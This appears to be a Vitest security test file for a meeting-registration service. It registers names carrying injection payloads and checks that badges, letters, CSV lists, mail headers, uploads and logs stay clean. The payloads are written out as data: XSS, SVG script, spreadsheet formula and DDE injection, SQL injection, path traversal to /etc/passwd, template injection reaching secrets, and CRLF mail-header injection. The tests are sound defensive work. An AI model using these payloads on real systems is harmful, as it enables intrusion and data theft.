import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { MEETING, meetingId, openWorld, type World } from '../permissions/world.js';
import { viewerAs } from '../support/viewers.js';

let world: World;
let focalPoint: string;
beforeAll(async () => {
  world = await openWorld();
  focalPoint = await world.hub.tokenFor(
    viewerAs('FOCAL_POINT', { participantId: world.ids.ourNgo, subject: 'focal point' }),
  );
}, 120_000);
afterAll(() => world.stop());

/** Names that something on the way could run. */
const names: [string, string, string][] = [
  ['Typst', '#read("/etc/passwd")', '#import "/etc/passwd": *'],
  ['a Typst expression', '#sys.inputs', '$x$ #eval("1+1") `raw` @label <label>'],
  ['HTML', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  ['SVG', '</text><script href="https://elsewhere.example"/>', '"><animate onbegin=alert(1)'],
  ['a formula', '=HYPERLINK("https://elsewhere.example?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['SQL', "Robert'); drop table participants.registration;--", "' or '1'='1"],
  ['a path', '../../../../etc/passwd', '..\\..\\windows\\win.ini'],
  ['a template', '${process.env.HUB_DATA_KEY}', '{{constructor.constructor("return process")()}}'],
];

const REGISTER = `mutation ($input: RegisterRepresentativeInput!) { outcome: registerRepresentative(input: $input) {
  __typename ... on Problem { message } ... on RegisteredRepresentative { registration { id representative { id displayName } functionTitle } } } }`;
type Registered = {
  outcome: {
    message?: string;
    registration: { id: string; representative: { id: string; displayName: string } };
  };
};

const register = async (givenName: string, familyName: string, email: string) =>
  (
    await world.hub.ask<Registered>(
      REGISTER,
      {
        input: {
          meetingId,
          participantId: world.ids.ourNgo,
          role: 'ADVISER',
          functionTitle: familyName,
          submit: true,
          person: { givenName, familyName, email },
        },
      },
      focalPoint,
    )
  ).outcome;

describe.each(names)('a name that is %s', (kind, givenName, familyName) => {
  test('is printed as it is, on badges, in letters and lists', async () => {
    const email = `${kind.replaceAll(/\W/g, '')}@people.example`.toLowerCase();
    const { registration, message } = await register(givenName, familyName, email);
    expect(message).toBeUndefined();
    expect(registration.representative.displayName).toContain(givenName);
    await world.done('sendPersonalLink', { personId: registration.representative.id, meetingId });
    const token = /token=([\w.-]+)/.exec(await world.hub.letterTo(email, /token=/))![1]!;
    const page = await (await world.hub.get(`/complete?token=${token}`)).text();
    expect(page).toContain('name="passport"');
    expect(page).not.toMatch(/<script>alert|<img|<animate|onerror=\w+\(1\)>|root:x:0/);
    await world.done('approveRegistrations', { ids: [registration.id] });
    const { outcomes } = await world.done<{ outcomes: { badge: { id: string } }[] }>(
      'issueBadges',
      { meetingId, registrationIds: [registration.id] },
      '... on IssuedBadges { outcomes { ... on IssuedBadge { badge { id } } } }',
    );
    for (const format of ['svg', 'pdf']) {
      const response = await world.hub.get(`/badges/${outcomes[0]!.badge.id}.${format}`, focalPoint);
      const body = Buffer.from(await response.arrayBuffer()).toString('latin1');
      expect([response.status, body.includes('root:x:0')]).toEqual([200, false]);
      if (format === 'svg')
        expect(body).not.toMatch(
          /<script|onerror|onbegin|<animate|<foreignObject|elsewhere\.example|javascript:/i,
        );
      else expect(body).not.toMatch(/\/JavaScript|\/OpenAction|\/Launch|\/URI\b/);
    }
    await world.hub.letterTo(email, /./);
    const letters = world.hub.mailbox.mails.filter(({ to }) => JSON.stringify(to).includes(email));
    for (const { html } of letters) {
      const withoutOurs = String(html).replaceAll(
        /<\/?(p|a|br|small|table|tr|th|td|hr|body|head|html|title|meta)\b[^<>]*>|<!doctype html>/g,
        '',
      );
      expect(withoutOurs).not.toMatch(/<[a-z!/]/i);
    }
    for (const ending of ['csv', 'json']) {
      const list = await world.hub.get(
        `/data/participants-list.${ending}?meeting=${MEETING}&basis=approved`,
        focalPoint,
      );
      const text = await list.text();
      expect(list.status).toBe(200);
      if (ending === 'csv') expect(text.split(/,|\r\n/).filter((cell) => /^"?[=@+]/.test(cell))).toEqual([]);
    }
  }, 60_000);
});

test('a letter has no header but the hub’s, whatever lines a name has', async () => {
  const before = world.hub.mailbox.mails.length;
  const answer = await world.hub.answer(
    REGISTER,
    {
      input: {
        meetingId,
        participantId: world.ids.ourNgo,
        role: 'ADVISER',
        submit: true,
        person: {
          givenName: 'Eve\r\nBcc: all@elsewhere.example\r\n\r\nClick here',
          familyName: 'Lines\u2028Subject: Won',
          email: 'lines@people.example',
        },
      },
    },
    focalPoint,
  );
  const { outcome } = (answer.data ?? {}) as { outcome?: { registration?: { id: string } } };
  if (outcome?.registration) await world.hub.letterTo('lines@people.example', /./);
  for (const mail of world.hub.mailbox.mails.slice(before)) {
    expect(mail.bcc).toBeUndefined();
    expect(mail.subject).not.toMatch(/[\r\n]/);
    expect(JSON.stringify(mail.to)).not.toContain('elsewhere');
  }
});

test.each([
  'a@b.example\r\nBcc: all@elsewhere.example',
  'a@b.example,c@elsewhere.example',
  'A <a@b.example>',
])('an address that is more than one, such as %j, is refused', async (email) => {
  expect((await register('Ada', 'Invented', email)).message).toContain('not an e-mail address');
});

test('a file’s name leads out of no folder and into no header', async () => {
  for (const name of [
    '../../etc/passwd.pdf',
    '..\\x.pdf',
    'a\r\nset-cookie: x=1.pdf',
    'a\u202efdp.exe',
    '/etc/cron.d/x.pdf',
    '.pdf',
    'a.pdf\u0000.exe',
    '%2e%2e%2fx.pdf"; filename="y.exe',
  ]) {
    const query = new URLSearchParams({ name, credentialsOf: world.ids.ourState, meetingId });
    const response = await fetch(`${world.hub.url}/files?${query.toString()}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${await world.hub.tokenFor(viewerAs('MISSION', { participantId: world.ids.ourState, subject: 'mission' }))}`,
      },
      body: readFileSync(new URL(import.meta.url)).subarray(0, 100),
    });
    expect([
      name,
      response.status >= 400 && response.status < 500,
      response.headers.get('set-cookie'),
    ]).toEqual([name, true, null]);
  }
});

test('nothing that was given about people is in the log', () => {
  const log = world.hub.log.join('\n');
  expect(log.length).toBeGreaterThan(1_000);
  const given = [
    'people.example',
    'HYPERLINK',
    '/etc/passwd',
    'drop table',
    'Click here',
    focalPoint,
    world.officer,
  ];
  expect(given.filter((text) => log.includes(text))).toEqual([]);
});
